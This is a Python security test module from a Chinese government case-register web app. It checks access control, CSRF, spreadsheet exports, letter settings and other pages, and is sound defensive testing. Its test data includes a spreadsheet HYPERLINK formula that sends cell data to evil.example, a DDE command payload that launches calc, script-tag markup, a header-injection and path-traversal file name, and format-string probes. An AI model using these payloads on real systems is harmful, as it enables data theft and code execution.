"""bench/sec_probe.py's checks of the views added in the last rounds: the dashboard
and its cells.csv, the batch pages (入库, the export of unreadable files), the API's
bulk review by the list's filter, 导出台账 (the case list as a workbook), 文书设置
and the calendar's pasted notice — each asked by the wrong role, for another
agency, without the CSRF token, with markup and formulas in what users type."""

from __future__ import annotations

import io
import re
import time
import zipfile
from pathlib import Path

import sec_files as F
from sec_data import INTAKE, TRANSPORT, WANGHU

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"台账")'
MARK = '<script>alert("rc")</script>'
CASE = "2025-0610"  # a number no other area registers


class RecentChecks:
    def area_recent(self) -> None:
        self._ledger_export()
        self._letter_settings()
        self._calendar()
        self._dashboard()
        self._batch_pages()
        self._bulk_api_filter()
        self._admin_pages()

    # --- 导出台账 ---------------------------------------------------------------------------------
    def _ledger_export(self) -> None:
        r = self.api("clerk_w", "POST", "/api/cases", {**INTAKE, "number": CASE, "agency": WANGHU,
                                                       "name": FORMULA, "subject": "+1+cmd|' /C calc'!A0"})
        self.check("recent", "case with formulas in name and subject stored", r.status_code == 201, r.text[:120])
        body = self.as_user("clerk_w").get("/cases/export.xlsx").content
        cells = _xlsx_text(body)
        self.check("recent", "导出台账: no formula cell, the typed formulas kept as text",
                   not _formulas(body) and "HYPERLINK" in cells and "calc" in cells, repr(_formulas(body)[:2]))
        self.check("recent", "导出台账: no identity number nor phone", INTAKE["id_number"] not in cells
                   and INTAKE["phone"] not in cells)
        for who in ("clerk_t", "reader_t"):
            for query in ("", f"?agency={WANGHU}"):
                r = self.as_user(who).get(f"/cases/export.xlsx{query}")
                self.check("recent", f"导出台账{query} by {who}: no case of 望湖",
                           r.status_code in (200, 403, 404) and CASE not in _xlsx_text(r.content),
                           str(r.status_code))
        r = self.client().get("/cases/export.xlsx")
        self.check("recent", "导出台账 signed out: to the login", r.status_code == 302
                   and "/accounts/login/" in r.headers.get("location", ""), str(r.status_code))

    # --- 文书设置 ---------------------------------------------------------------------------------
    def _letters_page(self, who: str, agency: str) -> str:
        return self.as_user(who).get("/registers/letters", params={"agency": agency}).text

    def _version(self, who: str, agency: str) -> str:
        found = re.search(r'name="version" value="([^"]*)"', self._letters_page(who, agency))
        return found.group(1).replace("&quot;", '"') if found else ""

    def _letter_settings(self) -> None:
        mine = {"agency": WANGHU, "short_name": "望湖街", "number_format": "",
                "review_body": f"云岭区人民政府{MARK}", "court": "云岭区人民法院"}
        r = self.form("clerk_w", "/registers/letters", {**mine, "version": self._version("clerk_w", WANGHU)})
        self.check("recent", "文书设置 by the agency's clerk: saved", r.status_code == 302, str(r.status_code))
        stored = self._version("clerk_w", WANGHU)
        page = self._letters_page("clerk_w", WANGHU)
        self.check("recent", "文书设置: the 复议机关's markup printed as text",
                   MARK not in page and "&lt;script&gt;" in page)
        taken = {**mine, "short_name": "别人", "version": stored}
        for who, want in (("clerk_t", 403), ("reader_t", 403)):
            r = self.form(who, "/registers/letters", taken)
            self.check("recent", f"文书设置 of 望湖 by {who}: {want}, unchanged",
                       r.status_code == want and self._version("clerk_w", WANGHU) == stored, str(r.status_code))
        r = self.form("reader_t", "/registers/letters", {**taken, "agency": TRANSPORT, "version": '"0"'})
        self.check("recent", "文书设置 of its own agency by a reader: 403", r.status_code == 403, str(r.status_code))
        r = self.as_user("clerk_w").post("/registers/letters", data=taken)
        self.check("recent", "文书设置 without the CSRF token: 403, unchanged",
                   r.status_code == 403 and self._version("clerk_w", WANGHU) == stored, str(r.status_code))
        r = self.form("clerk_w", "/registers/letters", {**taken, "version": '"1"'})
        self.check("recent", "文书设置 from a stale version: 412, unchanged",
                   r.status_code == 412 and self._version("clerk_w", WANGHU) == stored, str(r.status_code))
        for wide in ("{year:>900000000}", "{short.__class__.__mro__}"):
            started = time.monotonic()
            r = self.form("clerk_w", "/registers/letters", {**taken, "short_name": "望湖街", "number_format": wide})
            self.check("recent", f"文书设置 with the number format {wide[:16]}: 400 at once, unchanged",
                       r.status_code == 400 and time.monotonic() - started < 5
                       and self._version("clerk_w", WANGHU) == stored,
                       f"{r.status_code} {time.monotonic() - started:.1f} s")
        r = self.as_user("clerk_t").get("/registers/letters", params={"agency": WANGHU})
        self.check("recent", "文书设置 of 望湖 read by another agency's clerk: 403, nothing shown",
                   r.status_code == 403 and "云岭区人民法院" not in r.text, str(r.status_code))
        case = self.as_user("clerk_w").get("/api/cases", params={"q": CASE}).json()
        pk = (case.get("cases") or [{}])[0].get("id")
        self.api("clerk_w", "POST", f"/api/cases/{pk}/events/answered", {"on": "2025-10-09", "outcome": "granted"})
        r = self.as_user("clerk_w").get(f"/cases/{pk}/letters/答复书.docx")
        xml = zipfile.ZipFile(io.BytesIO(r.content)).read("word/document.xml").decode() \
            if r.status_code == 200 else ""
        self.check("recent", "letter with the 复议机关's markup: text in the Word XML",
                   r.status_code == 200 and "<script>" not in xml and "&lt;script&gt;" in xml, str(r.status_code))

    # --- the calendar ---------------------------------------------------------------------------
    def _calendar(self) -> None:
        year = (ROOT / "src" / "zfxxgk" / "cases" / "calendars" / "2026.toml").read_text("utf-8")
        quoted = MARK.replace('"', '\\"')
        marked = year.replace('source = "', f'source = "{quoted}', 1)  # as typed or pasted
        for who in ("clerk_w", "rev_y", "reader_t"):
            r = self.form(who, "/calendar/", {"text": marked})
            api = self.api(who, "POST", "/api/registers/calendar", {"text": marked})
            self.check("recent", f"calendar entry by {who}: 403 (page and API), nothing entered",
                       r.status_code == 403 and api.status_code == 403 and not self._entered(),
                       f"{r.status_code}/{api.status_code}")
        r = self.as_user("boss").post("/calendar/", data={"text": marked})
        self.check("recent", "calendar entry without the CSRF token: 403", r.status_code == 403
                   and not self._entered(), str(r.status_code))
        r = self.form("boss", "/calendar/", {"text": "国务院办公厅关于2026年部分节假日安排的通知\n" + "放假" * 3_000_000})
        self.check("recent", "calendar paste of 9 MB: refused without a server error",
                   400 <= r.status_code < 500 and not self._entered(), str(r.status_code))
        r = self.form("boss", "/calendar/", {"text": marked})
        self.check("recent", "calendar entry with markup in its 依据 by the administrator: entered",
                   r.status_code == 200 and self._entered(), str(r.status_code))
        for url in ("/calendar/", "/audit/"):
            page = self.as_user("boss").get(url).text
            self.check("recent", f"{url}: the 依据's markup printed as text", MARK not in page
                       and "&lt;script&gt;alert" in page)

    def _entered(self) -> bool:
        years = self.as_user("boss").get("/api/registers/calendar").json().get("years", [])
        return any(y.get("origin") == "entered" for y in years)

    # --- the dashboard --------------------------------------------------------------------------
    def _dashboard(self) -> None:
        for who in ("clerk_t", "reader_t"):
            for url in ("/dashboard", "/api/dashboard", "/dashboard/cells.csv", "/dashboard?level=township",
                        "/dashboard/cells.csv?level=township"):
                r = self.as_user(who).get(url)
                text = r.content.decode("utf-8-sig", "replace")
                self.check("recent", f"{url} of {who}: no other agency's name", r.status_code == 200
                           and "望湖" not in text and "云岭区" not in text, str(r.status_code))
        for url in (f"/dashboard?level={MARK}", f"/dashboard?year={MARK}", f"/api/dashboard?level={MARK}"):
            r = self.as_user("boss").get(url)
            self.check("recent", f"{url[:24]}…: no server error, not echoed as markup",
                       r.status_code < 500 and MARK not in r.text, str(r.status_code))
        for url in ("/dashboard", "/dashboard/cells.csv", "/api/dashboard"):
            r = self.client().get(url)
            self.check("recent", f"{url} signed out: refused", r.status_code in (302, 401, 403)
                       and "局" not in r.text, str(r.status_code))

    # --- batch pages ----------------------------------------------------------------------------
    def _batch_pages(self) -> None:
        from sec_checks import wait_batch

        c = self.as_user("clerk_w")
        data = F.zip_of([(f"{FORMULA}.txt", b""), ("+1+cmd.txt", b"\x00"), ("望湖-b.txt",
                                                                          F.EXAMPLE.read_bytes() + b"\n" * 23)])
        r = c.post("/api/batches", files={"files": ("@SUM(A1).zip", data, "application/zip")},
                   data={"name": '=1+1批次"x";filename=evil.exe/..\\a'}, headers=self.csrf(c))
        pk = r.json().get("id") if r.status_code in (201, 202) else None
        self.check("recent", "batch with formula names queued", pk is not None, f"{r.status_code} {r.text[:100]}")
        if pk is None:
            return
        wait_batch(c, pk)
        r = c.get(f"/batches/{pk}/export.xlsx")
        body, cd = r.content, r.headers.get("content-disposition", "")
        self.check("recent", "batch export of a batch named with quotes and filename=: one encoded name",
                   re.fullmatch(r"attachment; filename\*=utf-8''[\w%.~-]+", cd) is not None, cd[:120])
        self.check("recent", "batch export: no formula cell, the unreadable files' names as text",
                   not _formulas(body) and "HYPERLINK" in _xlsx_text(body), repr(_formulas(body)[:2]))
        for who, want in (("clerk_t", 404), ("reader_t", 404), ("rev_y", None)):
            for url in (f"/batches/{pk}", f"/batches/{pk}/export.xlsx", f"/batches/{pk}/progress"):
                r = self.as_user(who).get(url)
                ok = r.status_code == want if want else r.status_code in (200, 404)
                self.check("recent", f"{url} by {who}: {want or 'own region only'}",
                           ok and (r.status_code != 200 or who == "rev_y"), str(r.status_code))
        for who, want in (("clerk_t", 404), ("reader_t", 403)):
            r = self.form(who, f"/batches/{pk}/file")
            self.check("recent", f"入库 of 望湖's batch by {who}: {want}", r.status_code == want, str(r.status_code))
        r = c.post(f"/batches/{pk}/file")
        self.check("recent", "入库 without the CSRF token: 403", r.status_code == 403, str(r.status_code))
        r = self.as_user("clerk_w").get(f"/batches/{pk}/file")
        self.check("recent", "入库 by GET: 405", r.status_code == 405, str(r.status_code))

    # --- the API's bulk review by the list's filter ---------------------------------------------
    def _bulk_api_filter(self) -> None:
        out = self._fresh("boss", "ecology-bureau-2023.md")
        listed = self.as_user("rev_y").get("/api/reports").json().get("listed")
        agency = self._agency_of(out)
        body = {"all_without_errors": True, "listed": 99999999999999999}
        r = self.api("rev_y", "POST", f"/api/reports/review?agency={agency}", body)
        self.check("recent", "API bulk review by a filter naming another region's agency: nothing confirmed",
                   r.status_code in (200, 403) and self._open(out), f"{r.status_code} open={self._open(out)}")
        r = self.api("rev_y", "POST", "/api/reports/review", {**body, "listed": listed})
        self.check("recent", "API bulk review of the reviewer's whole list: another region's report untouched",
                   r.status_code in (200, 403) and self._open(out), f"{r.status_code} open={self._open(out)}")
        r = self.api("rev_y", "POST", "/api/reports/review", {**body, "reports": [{"id": out, "version": "x"}]})
        self.check("recent", "API bulk review naming reports and the filter together: 400", r.status_code == 400
                   and self._open(out), str(r.status_code))
        mine = self._fresh("boss", "yunling-district-2022.txt", year=2024)  # a year no other area judges
        r = self.api("rev_y", "POST", "/api/reports/review",
                     {"reports": [{"id": mine, "version": self._tag(mine)}], "comment": f"{FORMULA}{MARK}"})
        page = self.as_user("rev_y").get(f"/reports/{mine}").text
        self.check("recent", "API bulk review comment with markup: printed as text on the report",
                   r.status_code == 200 and MARK not in page and "&lt;script&gt;" in page, str(r.status_code))
        body = self.as_user("boss").get("/reports/export.xlsx").content
        self.check("recent", "reports export with a formula verdict comment: no formula cell",
                   not _formulas(body) and "台账" in _xlsx_text(body), repr(_formulas(body)[:2]))


    # --- the admin site's user page and verdicts ---------------------------------------------
    def _admin_pages(self) -> None:
        c = self.as_user("boss")
        listing = c.get("/admin/auth/user/", params={"q": "clerk_t"}).text
        found = re.search(r'href="/admin/auth/user/(\d+)/change/', listing)
        self.check("recent", "admin user list: clerk_t found", found is not None)
        if found is None:
            return
        url = f"/admin/auth/user/{found.group(1)}/change/"
        page = c.get(url).text
        self.check("recent", "admin user page: no hidden copy of the password hash",
                   'name="initial-username"' in page and 'name="initial-password"' not in page
                   and "pbkdf2_sha256$" not in page)
        sent = {"username": "clerk_t", "first_name": "", "membership-TOTAL_FORMS": "0",
                "membership-INITIAL_FORMS": "0", "membership-MIN_NUM_FORMS": "0",
                "membership-MAX_NUM_FORMS": "1", "date_joined_0": "2026-01-01", "date_joined_1": "00:00"}
        r = self.form("boss", url, sent)  # 有效 left out: disable the account, by hand
        alive = self.login("clerk_t").status_code == 302
        self.check("recent", "admin user page POST made by hand (no shown values): refused in Chinese, unchanged",
                   r.status_code == 200 and "缺少页面打开时各项的原值" in r.text and alive, f"{r.status_code}")
        for url, data in (("/admin/reports/verdict/", None), ("/admin/reports/verdict/add/", {"verdict": "dismissed"})):
            r = self.form("boss", url, data) if data else c.get(url)
            self.check("recent", f"{url} by a 管理员: no verdict changed there", r.status_code == 403,
                       str(r.status_code))

    def _fresh(self, who: str, name: str, year: int | None = None) -> int | None:
        """An example report uploaded again as a new file (its bytes made unique), of
        `year` when given (its verdicts then shared with no other area's report)."""
        data = (ROOT / "examples" / name).read_bytes() + b"\n" * 31
        if year is not None:
            text = data.decode("utf-8")
            data = text.replace("2022年", f"{year}年").replace("2021年", f"{year - 1}年").encode("utf-8")
        return self._upload(who, f"recent-{name}", data).json().get("id")


def _xlsx_text(body: bytes) -> str:
    """Every string of a workbook (shared and inline), '' when it is not one."""
    try:
        z = zipfile.ZipFile(io.BytesIO(body))
    except zipfile.BadZipFile:
        return ""
    parts = [z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/") or n == "xl/sharedStrings.xml"]
    return "\n".join(parts)


def _formulas(body: bytes) -> list[str]:
    try:
        z = zipfile.ZipFile(io.BytesIO(body))
    except zipfile.BadZipFile:
        return ["(not a workbook)"]
    return [f for n in z.namelist() if n.startswith("xl/worksheets/")
            for f in re.findall(r"<f>([^<]*)</f>", z.read(n).decode())]
